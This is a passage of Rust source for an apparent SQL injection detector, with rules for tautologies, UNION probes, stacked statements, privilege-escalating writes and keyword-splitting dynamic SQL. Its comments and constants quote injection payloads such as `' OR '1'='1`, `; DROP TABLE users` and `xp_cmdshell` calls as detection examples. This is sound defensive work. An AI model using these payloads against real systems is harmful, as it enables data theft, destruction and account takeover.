    let backslash = super::has(text, "\\'") || super::has(text, "\\\"");
    let readings: [(char, &dyn Dialect); 4] = [('\'', &mysql), ('"', &mysql), ('\'', &generic), ('"', &generic)];
    for (n, (quote, dialect)) in readings.into_iter().enumerate() {
        let Some(first) = text.find(quote) else { continue };
        if n >= 2 && !backslash {
            continue;
        }
        let after = text.get(first + 1..).unwrap_or("");
        let escaped = after.starts_with(quote) || text.get(..first).is_some_and(|b| b.ends_with('\\'));
        if !(danger || escaped || has(&BREAK_HEAD, after)) {
            continue;
        }
        let src = format!("{quote}a{text}{quote}");
        let toks = lex(&src, 2, len, dialect);
        if toks.first().is_some_and(|t| t.kind == Kind::Str) {
            // An unclosed `/*` right after the quote (`admin'/*`) stops the tokenizer.
            let end = toks.first().map_or(0, |t| t.at.end);
            if toks.len() == 1 && text.get(end..).is_some_and(|r| r.trim_start_matches([')', ' ']).starts_with("/*")) {
                found.push((Confidence::High, "sql.comment-terminator", end.saturating_sub(1)..end + 2));
            }
            // A quote right after a value's last character closes the
            // application's literal; one after `(`, `=` or a space opens a
            // string of the text's own (`execute("SELECT ...`).
            let closing = text.get(..first).and_then(|b| b.chars().next_back()).is_some_and(char::is_alphanumeric);
            break_out(&toks[1..], is_prose, closing, found);
        }
    }
}

/// Value rules on the content of each quoted literal of `text` that is an
/// argument's value and holds an escaped quote of its own
/// (`'x\'); DROP ...'`, OData's and RSQL's doubled `'O'' UNION ...'`) or,
/// in GraphQL, a quote of the other kind or a block string (`"status =
/// 'paid') UNION ..."`): those are the literals whose content, unescaped,
/// can break out of the application's own quotes. A literal that is a
/// statement of its own is not a value. A hit covers the whole literal.
fn literal_values(text: &str, graphql: bool, found: &mut Vec<(Confidence, &'static str, Range<usize>)>) {
    let bytes = text.as_bytes();
    let both = graphql && bytes.contains(&b'"') && bytes.contains(&b'\'');
    let doubled = super::has(text, "''");
    if !both && !doubled && !super::has(text, "\\'") && !super::has(text, "\\\"") {
        return;
    }
    // An argument's value: after `:`, `=`, `(` or `,`, or an OData or
    // filter comparison word (`Name eq '...'`).
    let argument = |at: usize| {
        let head = bytes.get(..at).unwrap_or(&[]);
        let head = head.get(..head.iter().rposition(|c| !c.is_ascii_whitespace()).map_or(0, |p| p + 1)).unwrap_or(&[]);
        matches!(head.last(), Some(b':' | b'=' | b'(' | b','))
            || [&b" eq"[..], b" ne", b" gt", b" ge", b" lt", b" le", b" like", b" in"]
                .iter()
                .any(|w| head.len() > w.len() && head.get(head.len() - w.len()..).is_some_and(|t| t.eq_ignore_ascii_case(w)))
    };
    // Every literal is read (each once, its content judged once): twenty
    // `LastName eq 'O''Brien' or` before the literal that breaks out hid
    // it when only the first 16 were judged.
    let mut i = 0usize;
    while i < bytes.len() {
        let Some(&quote) = bytes.get(i) else { break };
        if quote != b'"' && quote != b'\'' {
            i += 1;
            continue;
        }
        // A GraphQL block string (`"""..."""`) holds its text as written.
        let block = graphql && bytes.get(i..i + 3) == Some(b"\"\"\"");
        let mut content: Vec<u8> = Vec::new();
        let (mut j, mut escaped, mut closed) = (if block { i + 3 } else { i + 1 }, false, false);
        while let Some(&b) = bytes.get(j) {
            if block {
                if bytes.get(j..j + 3) == Some(b"\"\"\"") {
                    closed = true;
                    j += 2;
                    break;
                }
                content.push(b);
                j += 1;
                continue;
            }
            if b == b'\\' && matches!(bytes.get(j + 1), Some(&n) if n == quote || n == b'\\') {
                escaped |= bytes.get(j + 1) == Some(&quote);
                content.extend_from_slice(bytes.get(j + 1..j + 2).unwrap_or(&[]));
                j += 2;
                continue;
            }
            // SQL, OData and RSQL double a quote to escape it.
            if b == quote && bytes.get(j + 1) == Some(&quote) {
                escaped = true;
                content.push(quote);
                j += 2;
                continue;
            }
            if b == quote {
                closed = true;
                break;
            }
            content.push(b);
            j += 1;
        }
        if !closed {
            break;
        }
        let other = if quote == b'"' { b'\'' } else { b'"' };
        if argument(i)
            && content.len() >= 6
            && (escaped || graphql && (block || content.contains(&other)))
            && let Ok(value) = String::from_utf8(content)
            // (A stored query, `saveQuery(sql: "SELECT ... UNION ALL ...")`,
            // is a statement of its own, not a value that breaks out.)
            && !is_statement(&value)
            && VALUE_TRIGGER.as_ref().is_some_and(|r| r.is_match(value.as_bytes()))
        {
            let mut mine = Vec::new();
            value_rules(&value, value.len(), Context::Unknown, &mut mine);
            found.extend(mine.into_iter().filter(|(c, _, _)| *c >= Confidence::Medium).map(|(c, r, _)| (c, r, i..j + 1)));
        }
        i = j + 1;
    }
}

/// Value rules on each query parameter of a URL, with byte ranges in the
/// URL. Every parameter (each is judged once): forty `q=it's` before
/// `id=1' OR '1'='1` hid it when the first 32 were read.
fn query_values(url: &str, found: &mut Vec<(Confidence, &'static str, Range<usize>)>) {
    let Some(q) = url.find('?') else { return };
    let query = url.get(q + 1..).unwrap_or("");
    let query = query.split('#').next().unwrap_or(query);
    let mut offset = q + 1;
    for part in query.split('&') {
        if let Some((_, v)) = part.split_once('=')
            && !v.is_empty()
            && VALUE_TRIGGER.as_ref().is_some_and(|r| r.is_match(v.as_bytes()))
        {
            let start = offset + (part.len() - v.len());
            let mut mine = Vec::new();
            value_rules(v, v.len(), Context::Url, &mut mine);
            found.extend(mine.into_iter().map(|(c, r, at)| (c, r, at.start + start..at.end + start)));
        }
        offset += part.len() + 1;
    }
}

/// Whether a text reads as prose: ten words or more, most of them plain
/// lower-case words (a sentence that mentions `SLEEP(5)` is not a payload).
fn prose(text: &str) -> bool {
    // Bytes, not chars: a lower-case ASCII letter or any non-ASCII byte
    // (accented letters) counts as a letter; the first 40 words decide.
    let (mut words, mut plain) = (0usize, 0usize);
    for w in text.as_bytes().split(|b| b.is_ascii_whitespace()).filter(|w| !w.is_empty()).take(40) {
        words += 1;
        let mut end = w.len();
        while end > 0 && matches!(w[end - 1], b',' | b'.' | b':' | b'!' | b'?') {
            end -= 1;
        }
        if end > 0 && w[..end].iter().all(|b| b.is_ascii_lowercase() || *b >= 0x80) {
            plain += 1;
        }
    }
    words >= 10 && plain * 2 >= words
}

/// Whether the byte at `at` sits in a line, after the first, that opens
/// with `SELECT` or `WITH`: a query written out on its own line of a
/// document (an answer, a page), whose `UNION` is the query's own. The line
/// before must end a sentence or a statement (or be blank), and no
/// parenthesis or quote may be left open before it: otherwise the line
/// continues what precedes it (`id = -1 AND 0 IN (` then `SELECT 1) UNION ...`).
fn own_line_statement(text: &str, at: usize) -> bool {
    let Some(start) = text.get(..at).and_then(|b| b.rfind('\n')) else { return false };
    let before = text.get(..start).unwrap_or("");
    let previous = before.lines().next_back().unwrap_or("").trim_end();
    if !(previous.is_empty() || previous.ends_with(['.', ';', ':', '!', '?']) || opens_query(previous)) {
        return false;
    }
    if before.matches('(').count() > before.matches(')').count() {
        return false;
    }
    // A quote left open before the line (`abc'` then a new line) is a
    // break-out, and the line is the injected statement (SQL Server runs
    // statements without `;`). Apostrophes inside words (`don't`) open nothing.
    let open_quotes = before
        .char_indices()
        .filter(|&(i, c)| {
            c == '\''
                && !(before.get(..i).and_then(|b| b.chars().next_back()).is_some_and(char::is_alphabetic)
                    && before.get(i + 1..).and_then(|a| a.chars().next()).is_some_and(char::is_alphabetic))
        })
        .count();
    opens_query(text.get(start + 1..at).unwrap_or("")) && open_quotes % 2 == 0
}

/// Whether a line opens with `SELECT` or `WITH` (any case, after blanks).
fn opens_query(line: &str) -> bool {
    let head: String = line.trim_start().chars().take(7).collect::<String>().to_ascii_uppercase();
    head.starts_with("SELECT ") || head.starts_with("WITH ")
}

/// Rules that hold wherever the tokens sit in a value: `UNION SELECT`,
/// a `;` that starts a destructive statement.
fn anywhere(text: &str, t: &[Tok], context: Context, found: &mut Vec<(Confidence, &'static str, Range<usize>)>) {
    let sig: Vec<&Tok> = t.iter().filter(|x| x.kind != Kind::Comment).collect();
    // A value that opens with a statement that is no read (a migration's
    // `down`: `DROP OWNED BY r; DROP ROLE r;`) is a script: its `;`
    // separates its own statements, no literal was broken out of. A read
    // then a destructive statement (`SELECT ...; DROP TABLE users`), and
    // statements cut off by an empty comment (`...; DROP TABLE t; --`), are
    // appended ones still.
    let script = !cut_off(t) && sig.first().is_some_and(|x| x.is_any(SCRIPT_HEADS));
    let mut reads: Option<bool> = None;
    for (i, x) in sig.iter().enumerate() {
        // `1e0UNION`, `1.UNION`: a number glued to the keyword (MySQL reads both).
        let glued =
            x.kind == Kind::Word && x.text.len() > 5 && x.text.ends_with("UNION") && x.text.starts_with(|c: char| c.is_ascii_digit());
        if x.is("UNION") || glued {
            let mut k = i + 1;
            while sig.get(k).is_some_and(|y| y.is_any(&["ALL", "DISTINCT"]) || y.kind == Kind::LParen) {
                k += 1;
            }
            // One parse per value at most: the first UNION SELECT decides.
            if sig.get(k).is_some_and(|y| y.is("SELECT"))
                && !(context == Context::Text && own_line_statement(text, x.at.start))
                && *reads.get_or_insert_with(|| union_reads(text, &sig, k))
            {
                found.push((Confidence::High, "sql.union-select", x.at.start..sig[k].at.end));
            }
        } else if x.kind == Kind::Semi
            && let Some(end) = stacked(&sig, i + 1)
        {
            let c = if script { Confidence::Low } else { Confidence::High };
            found.push((c, "sql.stacked-statement", x.at.start..end));
        }
    }
}

/// Whether the tokens end in a comment that cuts off the rest of a query:
/// an empty one (`...; DROP TABLE t; --`), or one that holds only what the
/// application would have closed the value with (`--')`: its quote and
/// parenthesis). No script ends so.
/// (A separator line, `-- ------`, is no such comment.)
fn cut_off(t: &[Tok]) -> bool {
    t.last().is_some_and(|c| {
        let body = c.text.trim();
        c.kind == Kind::Comment
            && (body.is_empty()
                || body.contains(['\'', '"']) && body.chars().all(|ch| matches!(ch, '\'' | '"' | ')' | ';' | '`') || ch.is_whitespace()))
    })
}

/// Statements that open a script of statements (schema changes, grants,
/// writes), not a read a value could be appended to.
const SCRIPT_HEADS: &[&str] = &[
    "CREATE", "ALTER", "DROP", "GRANT", "REVOKE", "TRUNCATE", "INSERT", "UPDATE", "DELETE", "COMMENT", "REINDEX", "VACUUM", "BEGIN",
    "START",
];

/// Whether the `SELECT` at `sig[k]` starts a real query, not prose ("how
/// to union select results from two tables"): its select list is a probe
/// (`NULL`, numbers, `@@version`, a call, `*`), or the rest parses as SQL.
fn union_reads(text: &str, sig: &[&Tok], k: usize) -> bool {
    let Some(first) = sig.get(k + 1) else { return false };
    if first.literal()
        || first.text.starts_with('@')
        || first.is_op("*")
        || sig.get(k + 2).is_some_and(|x| x.kind == Kind::LParen || x.kind == Kind::Comma)
    {
        return true;
    }
    // A select list of words needs a FROM ("remove the UNION SELECT hack" parses as SQL).
    if !sig.iter().skip(k + 1).take(64).any(|x| x.is("FROM")) {
        return false;
    }
    let Some(rest) = text.get(sig[k].at.start..) else { return false };
    let dialects: [&dyn Dialect; 2] = [&MySqlDialect {}, &GenericDialect {}];
    dialects
        .iter()
        .any(|d| Parser::new(*d).with_recursion_limit(RECURSION_LIMIT).try_with_sql(rest).and_then(|mut p| p.parse_statements()).is_ok())
}

/// A statement that an injected `;` at `i - 1` starts, with enough
/// structure not to be prose (`; DROP TABLE users`, `; EXEC xp_cmdshell`).
/// Returns the end byte.
/// Columns that hold a role or a privilege level: written with an elevated
/// value (`'admin'`, `'owner'`, `'superuser'`) they grant it.
const ROLE_COLUMNS: &[&str] =
    &["ROLE", "ROLES", "ROLE_ID", "ACCESS_LEVEL", "USER_LEVEL", "PRIVILEGES", "PERMISSIONS", "USER_TYPE", "ACCOUNT_TYPE"];
/// Boolean flags that make an account privileged when set.
/// (PostgreSQL's catalog `pg_authid` holds `rolsuper`, `rolbypassrls` and
/// `rolcreaterole`; MySQL's `mysql.user` the `*_priv` columns.)
const FLAG_COLUMNS: &[&str] = &[
    "IS_ADMIN",
    "ADMIN",
    "IS_SUPERUSER",
    "SUPERUSER",
    "IS_STAFF",
    "IS_ROOT",
    "IS_OWNER",
    "ROLSUPER",
    "ROLBYPASSRLS",
    "ROLCREATEROLE",
    "SUPER_PRIV",
    "GRANT_PRIV",
    "FILE_PRIV",
    "SHUTDOWN_PRIV",
];
/// Credentials: written with any value but NULL, they are replaced.
const CREDENTIAL_COLUMNS: &[&str] = &["PASSWORD", "PASSWORD_HASH", "PASSWD", "PWD", "API_KEY", "TOTP_SECRET"];
/// Protections: written false, they are turned off.
const PROTECTION_COLUMNS: &[&str] = &["MFA_ENABLED", "TWO_FACTOR_ENABLED", "OTP_ENABLED", "MFA_REQUIRED"];
/// Table-name parts (split on `_`) of role and permission tables.
const PRIVILEGE_TABLES: &[&str] = &[
    "ADMIN",
    "ADMINS",
    "ADMINISTRATORS",
    "ROLE",
    "ROLES",
    "PERMISSION",
    "PERMISSIONS",
    "PRIVILEGE",
    "PRIVILEGES",
    "SUPERUSERS",
    "SUDOERS",
];

/// Whether the statement at `i` elevates a privilege or replaces a
/// credential: an `UPDATE` whose `SET` list writes an elevated role, sets an
/// admin flag, writes a credential (not NULL) or turns a protection off, or
/// an `INSERT` into a role or permission table, or any write into the
/// database's own privilege catalog ([`catalog_target`]). Revocations and
/// downgrades (`role = 'viewer'`, `api_key = NULL`, `mfa_enabled = true`)
/// are not.
fn privilege_write(sig: &[&Tok], i: usize) -> bool {
    let Some(head) = sig.get(i) else { return false };
    if catalog_target(sig, i) {
        return true;
    }
    let statement = || sig.iter().skip(i + 1).take_while(|y| y.kind != Kind::Semi).take(128);
    if head.is("UPDATE") {
        let set: Vec<&&Tok> = statement().skip_while(|y| !y.is("SET")).skip(1).take_while(|y| !y.is("WHERE")).collect();
        for (k, y) in set.iter().enumerate() {
            if !y.is_op("=") || k == 0 {
                continue;
            }
            let (Some(column), Some(value)) = (set.get(k - 1), set.get(k + 1)) else { continue };
            if !matches!(column.kind, Kind::Word | Kind::Ident) {
                continue;
            }
            let column = column.text.to_ascii_uppercase();
            let v = value.text.to_ascii_lowercase();
            let truthy = matches!(v.as_str(), "true" | "1" | "t" | "y" | "yes");
            let elevated = ["admin", "owner", "root", "super", "sudo"].iter().any(|w| v.contains(w));
            let hit = (ROLE_COLUMNS.contains(&column.as_str()) && value.kind == Kind::Str && elevated)
                || (FLAG_COLUMNS.contains(&column.as_str()) && truthy)
                || (CREDENTIAL_COLUMNS.contains(&column.as_str()) && value.kind == Kind::Str)
                || (PROTECTION_COLUMNS.contains(&column.as_str()) && matches!(v.as_str(), "false" | "0" | "f" | "n" | "no"));
            if hit {
                return true;
            }
        }
        return false;
    }
    if head.is_any(&["INSERT", "REPLACE"]) {
        let Some(table) = statement()
            .skip_while(|y| y.is("INTO"))
            .take_while(|y| y.kind != Kind::LParen)
            .filter(|y| matches!(y.kind, Kind::Word | Kind::Ident))
            .last()
        else {
            return false;
        };
        let name = table.text.to_ascii_uppercase();
        return name.split(['_', '.']).any(|part| PRIVILEGE_TABLES.contains(&part));
    }
    false
}

/// Dynamic SQL built from literals that split a keyword (`EXEC('DR' + 'OP
/// TABLE users')`, `CONCAT('SEL', 'ECT ...')`): legitimate dynamic SQL
/// joins a literal to a name or a variable; cutting a keyword in two only
/// hides it from a filter. Reported where the text also executes a
/// string (`EXEC`, `EXECUTE`, `PREPARE`, `sp_executesql`).
fn split_keyword(t: &[Tok], found: &mut Vec<(Confidence, &'static str, Range<usize>)>) {
    const KEYWORDS: &[&str] = &[
        "DROP",
        "DELETE",
        "TRUNCATE",
        "INSERT",
        "UPDATE",
        "UNION",
        "SELECT",
        "EXEC",
        "EXECUTE",
        "SHUTDOWN",
        "GRANT",
        "ALTER",
        "CREATE",
        "XP_CMDSHELL",
        "SP_EXECUTESQL",
        "WAITFOR",
        "SLEEP",
        "PASSWORD",
        "INFORMATION_SCHEMA",
    ];
    if !t.iter().any(|x| x.is_any(&["EXEC", "EXECUTE", "PREPARE", "SP_EXECUTESQL"])) {
        return;
    }
    for (i, a) in t.iter().enumerate() {
        let joined = match (t.get(i + 1), t.get(i + 2)) {
            (Some(op), Some(b))
                if a.kind == Kind::Str
                    && b.kind == Kind::Str
                    && (op.is_op("+")
                        || op.is_op("||")
                        || op.kind == Kind::Comma && t.get(i.saturating_sub(24)..i).is_some_and(|w| w.iter().any(|x| x.is("CONCAT")))) =>
            {
                b
            }
            _ => continue,
        };
        let word_char = |c: char| c.is_ascii_alphabetic() || c == '_';
        let tail = a.text.get(a.text.trim_end_matches(word_char).len()..).unwrap_or("");
        let head = joined.text.get(..joined.text.len() - joined.text.trim_start_matches(word_char).len()).unwrap_or("");
        if tail.is_empty() || head.is_empty() {
            continue;
        }
        let word = format!("{tail}{head}").to_ascii_uppercase();
        if KEYWORDS.contains(&word.as_str()) {
            found.push((Confidence::High, "sql.split-keyword-exec", a.at.start..joined.at.end));
            return;
        }
    }
}

fn stacked(sig: &[&Tok], i: usize) -> Option<usize> {
    let a = sig.get(i)?;
    let b = sig.get(i + 1);
    let bw = |w: &[&str]| b.is_some_and(|b| b.is_any(w));
    let ok = match a.text.as_str() {
        _ if a.kind != Kind::Word => false,
        "DROP" | "CREATE" | "ALTER" => {
            bw(&["TABLE", "DATABASE", "SCHEMA", "USER", "LOGIN", "VIEW", "PROCEDURE", "FUNCTION", "TRIGGER", "INDEX", "ROLE"])
        }
        "DELETE" => bw(&["FROM"]),
        "INSERT" | "REPLACE" => bw(&["INTO"]),
        "UPDATE" => sig.get(i + 2).is_some_and(|c| c.is("SET")),
        "TRUNCATE" => bw(&["TABLE"]) || b.is_some_and(|b| b.kind == Kind::Word && sig.get(i + 2).is_none_or(|c| c.kind != Kind::Word)),
        "EXEC" | "EXECUTE" => {
            b.is_some_and(|b| b.kind == Kind::Word || b.kind == Kind::Ident || b.kind == Kind::LParen || b.kind == Kind::Op)
        }
        "DECLARE" => b.is_some_and(|b| b.text.starts_with('@') || b.kind == Kind::Op),
        "SHUTDOWN" | "RECONFIGURE" => true,
        "WAITFOR" => bw(&["DELAY", "TIME"]),
        "SELECT" => sig.iter().skip(i + 1).take(12).any(|c| {
            c.is_any(&["FROM", "SLEEP", "PG_SLEEP", "LOAD_FILE", "BENCHMARK", "VERSION", "USER", "NULL"]) || c.text.starts_with('@')
        }),
        "COPY" => sig.iter().skip(i + 1).take(8).any(|c| c.is_any(&["FROM", "TO"])),
        "GRANT" | "REVOKE" => sig.iter().skip(i + 1).take(8).any(|c| c.is_any(&["TO", "ON", "FROM"])),
        "SET" => b.is_some_and(|b| b.text.starts_with('@')) || bw(&["GLOBAL", "PASSWORD"]),
        "KILL" | "BACKUP" | "RESTORE" | "DBCC" | "ATTACH" | "LOAD" => b.is_some_and(|b| b.kind == Kind::Word || b.kind == Kind::Num),
        // `IF (` opens a statement in every C-like language too: T-SQL's
        // condition is followed by a statement (`IF (1=1) DROP TABLE`), or
        // tests a query, a string function or a server variable; C's by a
        // block or an expression (`if (!p.waitFor(60)) { ... }`).
        "IF" => {
            let mut depth = 0usize;
            let mut close = None;
            for (k, c) in sig.iter().enumerate().skip(i + 1).take(64) {
                if c.kind == Kind::LParen {
                    depth += 1;
                } else if c.kind == Kind::RParen {
                    depth = depth.saturating_sub(1);
                    if depth == 0 {
                        close = Some(k);
                        break;
                    }
                }
            }
            b.is_some_and(|b| b.kind == Kind::LParen)
                && (close.and_then(|k| sig.get(k + 1)).is_some_and(|n| {
                    n.is_any(&[
                        "DROP",
                        "SHUTDOWN",
                        "UPDATE",
                        "INSERT",
                        "DELETE",
                        "TRUNCATE",
                        "WAITFOR",
                        "EXEC",
                        "EXECUTE",
                        "SELECT",
                        "BEGIN",
                        "PRINT",
                        "RAISERROR",
                        "SET",
                        "DECLARE",
                        "CREATE",
                        "ALTER",
                        "GRANT",
                        "RETURN",
                        "THROW",
                    ])
                }) || sig.iter().skip(i + 2).take(12).any(|c| {
                    c.is_any(&[
                        "SELECT",
                        "EXISTS",
                        "SUBSTRING",
                        "ASCII",
                        "LEN",
                        "DB_NAME",
                        "USER",
                        "CURRENT_USER",
                        "SESSION_USER",
                        "SYSTEM_USER",
                        "IS_SRVROLEMEMBER",
                        "HOST_NAME",
                    ]) || c.text.starts_with("@@")
                }))
        }
        "CALL" | "USE" => false,
        _ => false,
    };
    ok.then(|| sig.get(i + 2).or(b).map_or(a.at.end, |x| x.at.end))
}

/// Number context: `1 OR 1=1`, `1) AND SLEEP(5)`, `-1 UNION SELECT`.
fn bare_rules(t: &[Tok], found: &mut Vec<(Confidence, &'static str, Range<usize>)>) {
    let sig: Vec<&Tok> = t.iter().filter(|x| x.kind != Kind::Comment).collect();
    // The value: an optional sign, a number or one word, then closing parentheses.
    let mut i = 0;
    if sig.get(i).is_some_and(|x| x.is_op("-")) {
        i += 1;
    }
    let Some(v) = sig.get(i) else { return };
    if !matches!(v.kind, Kind::Num | Kind::Word | Kind::Ident) {
        return;
    }
    let number = v.kind == Kind::Num;
    i += 1;
    while sig.get(i).is_some_and(|x| x.kind == Kind::RParen) {
        i += 1;
    }
    let Some(op) = sig.get(i) else { return };
    if op.is_any(&["OR", "XOR"]) || op.is_op("||") {
        if let Some((end, true)) = condition_sig(&sig, i + 1, true) {
            found.push((Confidence::High, "sql.tautology", op.at.start..end));
        } else if number && sqlish_after_sig(&sig, i + 1) {
            found.push((Confidence::High, "sql.boolean-blind", op.at.start..op.at.end));
        }
    } else if op.is_any(&["AND", "RLIKE", "REGEXP", "LIKE"]) || op.is_op("&&") {
        if number && sqlish_after_sig(&sig, i + 1) {
            found.push((Confidence::High, "sql.boolean-blind", op.at.start..op.at.end));
        }
    } else if number
        && op.is_any(&["ORDER", "GROUP"])
        && sig.get(i + 1).is_some_and(|x| x.is("BY"))
        && sig.get(i + 2).is_some_and(|x| x.kind == Kind::Num)
    {
        found.push((Confidence::Medium, "sql.column-probe", op.at.start..op.at.end));
    } else if number && op.is("HAVING") && condition_sig(&sig, i + 1, true).is_some() {
        found.push((Confidence::High, "sql.boolean-blind", op.at.start..op.at.end));
    } else if number && op.kind == Kind::Semi && sig.get(i + 1).is_some_and(|x| x.is_any(JS_HEADS)) && sig.get(i + 2).is_some() {
        found.push((Confidence::High, "sql.nosql-js-injection", op.at.start..op.at.end));
    }
}

/// [`condition`] on a filtered token list.
fn condition_sig(sig: &[&Tok], i: usize, strict: bool) -> Option<(usize, bool)> {
    let owned: Vec<Tok> = sig.iter().skip(i).take(8).map(|t| (*t).clone()).collect();
    condition(&owned, 0, strict).map(|(k, taut)| (owned.get(k.saturating_sub(1)).map_or(0, |t| t.at.end), taut))
}

/// [`sqlish_after`] on a filtered token list.
fn sqlish_after_sig(sig: &[&Tok], i: usize) -> bool {
    let owned: Vec<Tok> = sig.iter().skip(i).take(12).map(|t| (*t).clone()).collect();
    sqlish_after(&owned, 0)
}

/// String context: the tokens right after the literal the value closes.
/// Words that start a statement a break-out may append (`WAITFOR` is the
/// time-blind rule's).
const STATEMENT_STARTS: &[&str] =
    &["SELECT", "INSERT", "UPDATE", "DELETE", "DROP", "EXEC", "EXECUTE", "DECLARE", "TRUNCATE", "SHUTDOWN", "CREATE", "ALTER", "GRANT"];

/// `, col =` at `i` (a column plain, quoted or qualified: `is_admin`,
/// `"role"`, `users.is_admin`): where its `=` is.
fn assignment_head(sig: &[&Tok], i: usize) -> Option<usize> {
    let column = |k: usize| sig.get(k).is_some_and(|x| matches!(x.kind, Kind::Word | Kind::Ident));
    if sig.get(i)?.kind != Kind::Comma || !column(i + 1) {
        return None;
    }
    let mut k = i + 2;
    while sig.get(k).is_some_and(|x| x.kind == Kind::Period) && column(k + 1) {
        k += 2;
    }
    sig.get(k).is_some_and(|x| x.is_op("=")).then_some(k)
}

/// Whether `sig` is a list of assignments and nothing else, `, col = v`
/// again and again (a column plain, quoted or qualified; a value any
/// expression), the last token the string the application's quote closes:
/// `', role='admin`, `', a='1', b='2', is_admin='1`.
fn assignments(sig: &[&Tok]) -> bool {
    let mut i = 0;
    while i < sig.len() {
        let Some(eq) = assignment_head(sig, i) else { return false };
        i = eq + 1;
        // The value: an expression up to the next comma outside brackets
        // (`balance+1000000`, `(SELECT 'admin')`, `'adm'||'in'`).
        let (start, mut depth) = (i, 0usize);
        while let Some(x) = sig.get(i) {
            match x.kind {
                Kind::LParen => depth += 1,
                Kind::RParen => depth = depth.saturating_sub(1),
                Kind::Comma if depth == 0 => break,
                Kind::Semi => return false,
                _ => {}
            }
            i += 1;
        }
        if i == start {
            return false;
        }
    }
    sig.last().is_some_and(|x| x.kind == Kind::Str)
}

fn break_out(tail: &[Tok], prose: bool, closing: bool, found: &mut Vec<(Confidence, &'static str, Range<usize>)>) {
    let mut i = 0;
    while tail.get(i).is_some_and(|x| x.kind == Kind::RParen) {
        i += 1;
    }
    let Some(first) = tail.get(i) else { return };
    let start = tail.first().map_or(0, |t| t.at.start);
    let sig: Vec<&Tok> = tail[i..].iter().filter(|x| x.kind != Kind::Comment).collect();
    // `great service'), ('admin', 'x', (SELECT ...)), ('z`: the literal and
    // its row closed, another row of the application's INSERT opened.
    if i > 0
        && !prose
        && sig.first().is_some_and(|x| x.kind == Kind::Comma)
        && sig.get(1).is_some_and(|x| x.kind == Kind::LParen)
        && sig.len() > 3
    {
        found.push((Confidence::High, "sql.row-injection", start..sig[1].at.end));
        return;
    }
    // `bob', is_admin=1 WHERE username='bob'-- `, `bob', role='admin`: the
    // literal closed inside an UPDATE's SET list and more columns assigned
    // (a column plain, quoted or qualified), the rest commented out, a
    // WHERE of the value's own, or the application's closing quote ending
    // the last assignment's literal.
    if !prose
        && closing
        && first.kind == Kind::Comma
        && let Some(eq) = assignment_head(&sig, 0)
        && sig.len() > eq + 1
        && (tail.last().is_some_and(|x| x.kind == Kind::Comment) || sig.iter().any(|x| x.is("WHERE")) || assignments(&sig))
    {
        found.push((Confidence::High, "sql.set-injection", start..sig[eq].at.end));
        return;
    }
    match first.kind {
        Kind::Comment => {
            // `admin'--`, `admin'#`, `x' -- -`: an empty comment (the closing
            // quote the application adds is all it holds). `"#alerts"` is not.
            let body = first.text.trim_end_matches(['\'', '"']);
            let empty_start = body.is_empty() || body.starts_with([' ', '\t', '-', '+', '\n', '\r']);
            if !body.contains(['\'', '"']) && empty_start {
                found.push((Confidence::High, "sql.comment-terminator", start..first.at.end));
            }
            return;
        }
        Kind::Semi => {
            let next = tail.get(i + 1);
            if next.is_none_or(|n| n.kind == Kind::Comment) {
                found.push((Confidence::High, "sql.comment-terminator", start..first.at.end));
            } else if sig.get(1).is_some_and(|x| x.is_any(JS_HEADS)) && sig.len() > 2 {
                found.push((Confidence::High, "sql.nosql-js-injection", start..sig[1].at.end));
            } else if let Some(end) = stacked(&sig, 1) {
                found.push((Confidence::High, "sql.stacked-statement", start..end));
            } else if sig.get(1).is_some_and(|x| x.is_any(STACKED_HEADS)) {
                found.push((Confidence::Medium, "sql.stacked-statement", start..sig[1].at.end));
            }
            return;
        }
        // `x'` then a statement, on the same line or the next, commented to
        // the end: SQL Server runs a batch's statements without `;`.
        Kind::Word if !prose && closing && first.is_any(STATEMENT_STARTS) && tail.last().is_some_and(|x| x.kind == Kind::Comment) => {
            if let Some(end) = stacked(&sig, 0) {
                found.push((Confidence::High, "sql.stacked-statement", start..end));
                return;
            }
        }
        _ => {}
    }
    if !prose {
        dangerous_calls(tail, true, found);
    }
    let Some(op) = sig.first() else { return };
    // Prose after a quote ends on a plain word (`' OR 1=1 mean`); a break-out
    // ends on a comment, the closing quote's literal, a parenthesis, a number.
    let commented = tail.iter().any(|x| x.kind == Kind::Comment);
    let prose_end = !commented
        && sig.last().is_some_and(|x| x.kind == Kind::Word && !x.is_any(&["TRUE", "FALSE", "NULL", "END", "DUAL", "USER", "VERSION"]));
    let rest_sql = |k: usize| sqlish_after_sig(&sig, k);
    if (op.is_op("||") || op.is_op("&&") || op.kind == Kind::Semi) && sig.get(1).is_some_and(|x| x.is("THIS")) {
        // `' && this.password.match(/^a/)//`: JavaScript in a `$where`.
        found.push((Confidence::High, "sql.nosql-js-injection", start..op.at.end));
    } else if prose_end && sig.len() > 1 && !op.is("UNION") {
        // Only the unmistakable: UNION SELECT, calls (handled above).
    } else if op.is_any(&["OR", "AND", "XOR", "RLIKE", "REGEXP"])
        || op.is_op("||")
        || op.is_op("&&")
        || op.is_op("|")
        || op.is_op("&")
        || op.is_op("^")
    {
        let cond = condition_sig(&sig, 1, false).filter(|(end, _)| {
            // What follows the condition: the end, a comment, more SQL; not prose.
            let next = sig.iter().find(|x| x.at.start >= *end);
            next.is_none_or(|n| {
                matches!(n.kind, Kind::Str | Kind::Semi | Kind::RParen | Kind::Op | Kind::Comma)
                    || n.is_any(&["AND", "OR", "LIMIT", "ORDER", "GROUP", "UNION", "HAVING", "INTO", "XOR", "PROCEDURE", "--"])
            }) || tail.iter().any(|x| x.kind == Kind::Comment && x.at.start >= *end && next.is_some_and(|n| x.at.start <= n.at.start))
        });
        // In prose, a condition whose last literal runs on as a sentence
        // (`entering ' OR '1'='1 makes the WHERE clause always true.`) is
        // the write-up's: closed by the application's quote, that literal
        // would compare the whole sentence, and no break-out does that.
        let cond = cond.filter(|(end, _)| {
            !prose
                || !sig.iter().find(|x| x.at.end == *end).is_some_and(|x| x.kind == Kind::Str && x.text.split_whitespace().nth(3).is_some())
        });
        if let Some((end, taut)) = cond {
            let rule = if taut && !op.is_any(&["AND"]) && !op.is_op("&&") { "sql.tautology" } else { "sql.boolean-blind" };
            found.push((Confidence::High, rule, start..end));
        } else if rest_sql(1) {
            found.push((Confidence::High, "sql.boolean-blind", start..op.at.end));
        } else if op.is_op("||") && sig.get(1).is_some_and(|x| x.kind == Kind::Word) && sig.get(2).is_some_and(|x| x.kind == Kind::LParen) {
            // `'||pg_sleep(5)||'`, `'||(SELECT ...)||'`: concatenating a call into the literal.
            found.push((Confidence::Medium, "sql.concat-call", start..op.at.end));
        }
    } else if op.is("UNION") {
        let mut k = 1;
